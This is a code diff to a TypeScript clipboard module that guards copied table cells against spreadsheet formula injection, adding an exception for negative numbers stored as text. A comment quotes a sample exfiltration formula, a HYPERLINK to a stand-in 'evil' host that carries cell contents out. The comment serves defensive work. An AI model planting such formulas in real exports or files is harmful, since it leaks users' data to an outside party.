@@ -12,9 +12,10 @@
 // formula injection), so a hostile value in a table (`=HYPERLINK("http://evil/?"&A1,"x")`) would
 // run in the analyst's spreadsheet. Copies get the rule Export and `warden query --format csv`
 // apply (`looks_like_formula` in crates/results/src/export.rs): text, a column name included,
-// starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`. Only text:
-// numbers (`-5` too), booleans and NULL arrive typed and are never changed, as the backend
-// never changes its Int, Float, Bool and Null values. A single cell copied alone is guarded too:
+// starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, unless it is a
+// negative number written as text (a DECIMAL's `-12.50`), which a spreadsheet reads as a number.
+// Only text: numbers (`-5` too), booleans and NULL arrive typed and are never changed, as the
+// backend never changes its Int, Float, Bool and Null values. A single cell copied alone is guarded too:
 // pasted into a spreadsheet cell it is interpreted like any other. The grid's menu has "Copy
 // values as-is" for pasting into a text editor or another SQL tool, and the grid says how many
 // values a copy changed.
@@ -30,11 +31,17 @@ export type CopyFormat = "tsv" | "csv";
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 /**
+ * A negative number written as text, as engines write DECIMAL values (`-12.50`): a number to a
+ * spreadsheet, not a formula, so it is left alone (`is_negative_number` in export.rs).
+ */
+const NEGATIVE_NUMBER = /^-\d+(\.\d+)?$/;
+
+/**
  * The formula guard: text that starts like a spreadsheet formula with a leading `'`; any other
  * value (a number, a boolean, NULL, other text) unchanged. The one place the UI holds the rule.
  */
 export function formulaGuard<T extends CellValue | undefined>(value: T): T | string {
-  return typeof value === "string" && FORMULA_START.test(value) ? `'${value}` : value;
+  return typeof value === "string" && FORMULA_START.test(value) && !NEGATIVE_NUMBER.test(value) ? `'${value}` : value;
 }
 
 /** Whether copied values go through `formulaGuard` (the default) or are copied as they are. */
